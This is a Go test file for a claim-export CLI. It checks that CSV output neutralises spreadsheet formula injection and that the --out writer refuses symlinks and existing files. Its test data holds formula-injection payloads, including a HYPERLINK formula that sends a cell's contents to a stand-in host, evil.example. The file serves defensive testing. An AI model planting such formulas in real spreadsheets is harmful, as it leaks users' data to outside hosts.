package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"redline/claim"
	"redline/index"
)

func TestCSVSafe(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example","click")`, `'=HYPERLINK("http://evil.example","click")`},
		{"=1+2", "'=1+2"},
		{"+1", "'+1"},
		{"-2", "'-2"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"=", "'="},
		// Untouched: empty, ordinary text, our numbers, formula
		// characters elsewhere than first, and other leading characters.
		{"", ""},
		{"Kyiv will never cede its land.", "Kyiv will never cede its land."},
		{"0", "0"},
		{"1043", "1043"},
		{"0.90", "0.90"},
		{"true", "true"},
		{"a=b+c-d@e", "a=b+c-d@e"},
		{" =1", " =1"},
		{"'=1", "'=1"},
		{"\nx", "\nx"},
		{"territory;nato", "territory;nato"},
	}
	for _, tt := range tests {
		if got := csvSafe(tt.in); got != tt.want {
			t.Errorf("csvSafe(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	row := csvSafeRow([]string{"=a", "b", "-1", "", "@c"})
	if want := []string{"'=a", "b", "'-1", "", "'@c"}; !slices.Equal(row, want) {
		t.Errorf("csvSafeRow = %q, want %q", row, want)
	}
}

// formulaSentences are claim sentences a spreadsheet would run as formulas.
var formulaSentences = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Moscow demands")`,
	"+1 Moscow demands a halt to NATO expansion.",
	"-2 Kyiv will never cede its land.",
	"@SUM(A1:A9) Kyiv demands guarantees.",
	"\tx Moscow demands a ceasefire.",
	"\rx Kyiv offers a ceasefire.",
}

const plainSentence = "Kyiv is ready to accept a 30-day ceasefire."

// formulaIndex writes an index whose claims' sentences start with formula
// characters (and one plain one), plus one article whose text columns all
// do, and returns its folder.
func formulaIndex(t *testing.T) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "idx")
	ix, err := index.Open(dir, index.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer ix.Close()
	var specs []string
	for _, s := range formulaSentences {
		specs = append(specs, "ukraine demand ceasefire 0.9 "+s)
	}
	specs = append(specs, "ukraine offer ceasefire 0.8 "+plainSentence)
	every := index.Article{DocID: "-doc", Source: "=src", URL: "=url", Title: "=title", Outlet: "+outlet", Published: "2025-01-02", Hash: "h"}
	every.Claims = []claim.Claim{{DocID: "-doc", Source: "=src", URL: "=url", Title: "=title", Outlet: "+outlet", Published: "2025-01-02",
		Sentence: "@sentence", Start: 0, End: 9, Party: "-party", Speaker: "=speaker", Kind: "demand", Topics: []string{"-topic", "nato"},
		Target: "+target", Condition: "=condition", Cue: "@cue", Attribution: "\tattr", Confidence: 0.5}}
	if err := ix.Write([]index.Article{carticle("doc-1", "", "Harbour Wire", "2025-01-10", specs...), every}); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestExportCSVFormulas(t *testing.T) {
	dir := formulaIndex(t)
	out := mustRun(t, "export", "--index", dir, "--format", "csv", "--min-confidence", "0")
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v\n%s", err, out)
	}
	header := append(slices.Clone(claimFields), "long")
	if len(rows) != 1+len(formulaSentences)+2 || !slices.Equal(rows[0], header) {
		t.Fatalf("CSV has %d rows (want %d), header %q", len(rows), 1+len(formulaSentences)+2, rows[0])
	}
	col := func(name string) int { return slices.Index(header, name) }
	bySentence := map[string][]string{}
	for _, row := range rows[1:] {
		if len(row) != len(header) {
			t.Fatalf("row of %d cells: %q", len(row), row)
		}
		bySentence[row[col("sentence")]] = row
	}
	for _, s := range formulaSentences {
		row, ok := bySentence["'"+s]
		if !ok {
			t.Errorf("no row with sentence %q neutralised; sentences: %q", s, slices.Collect(func(yield func(string) bool) {
				for k := range bySentence {
					if !yield(k) {
						return
					}
				}
			}))
			continue
		}
		// The other cells of these rows are ordinary: untouched.
		if row[col("doc_id")] != "doc-1" || row[col("outlet")] != "Harbour Wire" || row[col("party")] != "ukraine" ||
			row[col("start")] == "" || strings.HasPrefix(row[col("start")], "'") || row[col("confidence")] != "0.9" || row[col("hedged")] != "false" {
			t.Errorf("row of %q: ordinary cells changed: %q", s, row)
		}
	}
	if row, ok := bySentence[plainSentence]; !ok {
		t.Errorf("the plain sentence %q is not untouched", plainSentence)
	} else if row[col("confidence")] != "0.8" || row[col("kind")] != "offer" {
		t.Errorf("plain row: %q", row)
	}

	// Every column goes through the rule.
	row, ok := bySentence["'@sentence"]
	if !ok {
		t.Fatal("no row for the article whose every text column starts with a formula character")
	}
	want := map[string]string{"doc_id": "'-doc", "source": "'=src", "url": "'=url", "title": "'=title", "outlet": "'+outlet",
		"published": "2025-01-02", "start": "0", "end": "9", "party": "'-party", "speaker": "'=speaker", "kind": "demand",
		"topics": "'-topic;nato", "target": "'+target", "hedged": "false", "condition": "'=condition", "cue": "'@cue",
		"attribution": "'\tattr", "confidence": "0.5"}
	for name, w := range want {
		if got := row[col(name)]; got != w {
			t.Errorf("column %s = %q, want %q", name, got, w)
		}
	}

	// JSONL is data, not a spreadsheet: written as it is.
	claims := exported(t, mustRun(t, "export", "--index", dir, "--min-confidence", "0"))
	var sentences []string
	for _, c := range claims {
		sentences = append(sentences, c.Sentence)
	}
	for _, s := range append(slices.Clone(formulaSentences), plainSentence, "@sentence") {
		if !slices.Contains(sentences, s) {
			t.Errorf("JSONL has no claim with sentence %q as it is; has %q", s, sentences)
		}
	}
}

// dirNames lists the names in dir, sorted.
func dirNames(t *testing.T, dir string) []string {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return names
}

func TestExportOut(t *testing.T) {
	idx := formulaIndex(t)
	const old = "old contents\n"
	tests := []struct {
		name   string
		setup  func(t *testing.T, dir string) // makes what is in the folder before
		file   string                         // --out, in the folder
		force  bool
		ctx    context.Context
		errHas []string          // empty: success
		want   []string          // the folder's names after
		keep   map[string]string // files whose contents must not change
	}{
		{name: "new file", file: "out.csv", want: []string{"out.csv"}},
		{name: "new file, force", file: "out.csv", force: true, want: []string{"out.csv"}},
		{
			name:   "existing file",
			setup:  func(t *testing.T, dir string) { writeTestFile(t, filepath.Join(dir, "out.csv"), old, 0o644) },
			file:   "out.csv",
			errHas: []string{"out.csv", "already exists", "--force"},
			want:   []string{"out.csv"},
			keep:   map[string]string{"out.csv": old},
		},
		{
			name:  "existing file, force",
			setup: func(t *testing.T, dir string) { writeTestFile(t, filepath.Join(dir, "out.csv"), old, 0o600) },
			file:  "out.csv", force: true,
			want: []string{"out.csv"},
		},
		{
			name: "symlink to a file",
			setup: func(t *testing.T, dir string) {
				writeTestFile(t, filepath.Join(dir, "target.csv"), old, 0o644)
				mustSymlink(t, "target.csv", filepath.Join(dir, "link.csv"))
			},
			file:   "link.csv",
			errHas: []string{"link.csv", "symbolic link"},
			want:   []string{"link.csv", "target.csv"},
			keep:   map[string]string{"target.csv": old},
		},
		{
			name: "symlink to a file, force",
			setup: func(t *testing.T, dir string) {
				writeTestFile(t, filepath.Join(dir, "target.csv"), old, 0o644)
				mustSymlink(t, "target.csv", filepath.Join(dir, "link.csv"))
			},
			file: "link.csv", force: true,
			errHas: []string{"link.csv", "symbolic link"},
			want:   []string{"link.csv", "target.csv"},
			keep:   map[string]string{"target.csv": old},
		},
		{
			name:  "dangling symlink, force",
			setup: func(t *testing.T, dir string) { mustSymlink(t, "nowhere.csv", filepath.Join(dir, "link.csv")) },
			file:  "link.csv", force: true,
			errHas: []string{"link.csv", "symbolic link"},
			want:   []string{"link.csv"},
		},
		{
			name:  "directory, force",
			setup: func(t *testing.T, dir string) { os.Mkdir(filepath.Join(dir, "sub"), 0o755) },
			file:  "sub", force: true,
			errHas: []string{"sub", "is a folder: give the path of a file"},
			want:   []string{"sub"},
		},
		{name: "interrupted", file: "out.csv", ctx: cancelled(), errHas: []string{"canceled"}, want: nil},
		{
			name:  "interrupted, force",
			setup: func(t *testing.T, dir string) { writeTestFile(t, filepath.Join(dir, "out.csv"), old, 0o644) },
			file:  "out.csv", force: true, ctx: cancelled(),
			errHas: []string{"canceled"},
			want:   []string{"out.csv"},
			keep:   map[string]string{"out.csv": old},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			if tt.setup != nil {
				tt.setup(t, dir)
			}
			path := filepath.Join(dir, tt.file)
			args := []string{"export", "--index", idx, "--format", "csv", "--min-confidence", "0", "--out", path}
			if tt.force {
				args = append(args, "--force")
			}
			ctx := tt.ctx
			if ctx == nil {
				ctx = context.Background()
			}
			stdout, stderr, err := runCLICtx(t, ctx, args...)
			if stdout != "" {
				t.Errorf("export --out wrote to stdout: %q", stdout)
			}
			if len(tt.errHas) == 0 {
				if err != nil {
					t.Fatalf("export: %v\n%s", err, stderr)
				}
				fi, err := os.Lstat(path)
				if err != nil {
					t.Fatal(err)
				}
				if mode := umaskedMode(t); !fi.Mode().IsRegular() || fi.Mode().Perm() != mode {
					t.Errorf("%s has mode %v, want a regular file %v (0666 less the umask)", tt.file, fi.Mode(), mode)
				}
				b, _ := os.ReadFile(path)
				rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
				if err != nil || len(rows) != 1+len(formulaSentences)+2 {
					t.Errorf("%s: %d rows, %v", tt.file, len(rows), err)
				}
			} else {
				if err == nil {
					t.Fatal("export succeeded, want an error")
				}
				for _, s := range tt.errHas {
					if !strings.Contains(err.Error(), s) {
						t.Errorf("error %q does not say %q", err, s)
					}
				}
				want := exitFailure
				if tt.ctx != nil {
					want = exitCanceled
				}
				if code := exitCode(err, io.Discard); code != want {
					t.Errorf("exit code %d, want %d", code, want)
				}
			}
			if got := dirNames(t, dir); !slices.Equal(got, tt.want) {
				t.Errorf("the folder holds %q, want %q (no temporary files)", got, tt.want)
			}
			for name, want := range tt.keep {
				if b, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(b) != want {
					t.Errorf("%s now holds %q (%v), want it untouched", name, b, err)
				}
			}
			if fi, err := os.Lstat(filepath.Join(dir, "link.csv")); err == nil && fi.Mode()&fs.ModeSymlink == 0 {
				t.Error("link.csv is no longer a symbolic link")
			}
		})
	}
}

// TestWriteOut checks the --out writer below the CLI: a failing export and
// a file or link that appears while it runs.
func TestWriteOut(t *testing.T) {
	e := &env{stdout: io.Discard, stderr: io.Discard}
	partial := func(err error) func(io.Writer) error {
		return func(w io.Writer) error {
			io.WriteString(w, "doc_id,source\nhalf,")
			return err
		}
	}
	for _, failure := range []error{context.Canceled, errors.New("disk full")} {
		dir := t.TempDir()
		err := e.writeOut(filepath.Join(dir, "out.csv"), false, partial(failure))
		if !errors.Is(err, failure) {
			t.Errorf("writeOut = %v, want %v", err, failure)
		}
		if names := dirNames(t, dir); len(names) != 0 {
			t.Errorf("after %v the folder holds %q, want nothing", failure, names)
		}
	}

	// A file created during the export is not replaced without --force,
	// a link not even with it.
	for _, force := range []bool{false, true} {
		dir := t.TempDir()
		path := filepath.Join(dir, "out.csv")
		writeTestFile(t, filepath.Join(dir, "target.csv"), "keep", 0o644)
		err := e.writeOut(path, force, func(w io.Writer) error {
			io.WriteString(w, "new")
			if force {
				mustSymlink(t, "target.csv", path)
			} else {
				writeTestFile(t, path, "keep", 0o644)
			}
			return nil
		})
		if err == nil || !strings.Contains(err.Error(), path) {
			t.Errorf("force %v: writeOut = %v, want an error naming %s", force, err, path)
		}
		if names := dirNames(t, dir); !slices.Equal(names, []string{"out.csv", "target.csv"}) {
			t.Errorf("force %v: the folder holds %q", force, names)
		}
		for _, name := range []string{"out.csv", "target.csv"} {
			if b, _ := os.ReadFile(filepath.Join(dir, name)); string(b) != "keep" {
				t.Errorf("force %v: %s holds %q, want it untouched", force, name, b)
			}
		}
	}

	// No --out: stdout, and no file check.
	var buf bytes.Buffer
	e.stdout = &buf
	if err := e.writeOut("", false, func(w io.Writer) error { _, err := io.WriteString(w, "x"); return err }); err != nil || buf.String() != "x" {
		t.Errorf("writeOut to stdout: %v %q", err, buf.String())
	}
}

func TestExportHelpSafety(t *testing.T) {
	out, _, _ := runCLI(t, "export", "--help")
	for _, s := range []string{"=, +, -, @, a tab or a carriage return", "single quote", "JSONL is written as it is",
		"temporary file", "--force", "symbolic link", "-force"} {
		if !strings.Contains(out, s) {
			t.Errorf("export --help does not say %q:\n%s", s, out)
		}
	}
}

func writeTestFile(t *testing.T, path, contents string, mode os.FileMode) {
	t.Helper()
	if err := os.WriteFile(path, []byte(contents), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(path, mode); err != nil {
		t.Fatal(err)
	}
}

func mustSymlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Skipf("no symbolic links here: %v", err)
	}
}

func cancelled() context.Context {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	return ctx
}
